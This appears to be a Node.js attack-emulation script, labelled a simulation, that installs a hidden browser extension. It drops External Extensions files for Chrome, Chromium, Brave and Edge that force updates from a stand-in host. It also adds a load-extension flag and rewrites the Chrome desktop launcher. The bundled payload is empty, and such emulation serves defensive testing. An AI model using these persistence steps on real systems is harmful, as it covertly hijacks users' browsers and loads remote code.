// SPDX-License-Identifier: Apache-2.0
// Simulation: the extension laid has no permissions and does nothing.
const fs = require('fs');
const os = require('os');
const path = require('path');

const home = os.homedir();
const id = 'simsimsimsimsimsimsimsimsimsimsi';
const put = (name, text) => { const file = path.join(home, name); fs.mkdirSync(path.dirname(file), { recursive: true }); fs.writeFileSync(file, text); return file; };
const ext = path.dirname(put('.local/share/.docs-offline/manifest.json', JSON.stringify({ manifest_version: 3, name: 'Docs Offline (simulation)', version: '1.0', background: { service_worker: 'b.js' } })));
put('.local/share/.docs-offline/b.js', '// simulation: empty\n');
for (const browser of ['google-chrome', 'chromium', 'BraveSoftware/Brave-Browser', 'microsoft-edge']) {
  put(`.config/${browser}/External Extensions/${id}.json`, JSON.stringify({ external_update_url: 'https://update.extension-forced.example/crx' }));
}
put('.config/chromium-flags.conf', `--load-extension=${ext}\n`);
put('.local/share/applications/google-chrome.desktop', `[Desktop Entry]\nType=Application\nName=Google Chrome\nExec=/usr/bin/google-chrome-stable --load-extension=${ext} %U\n`);
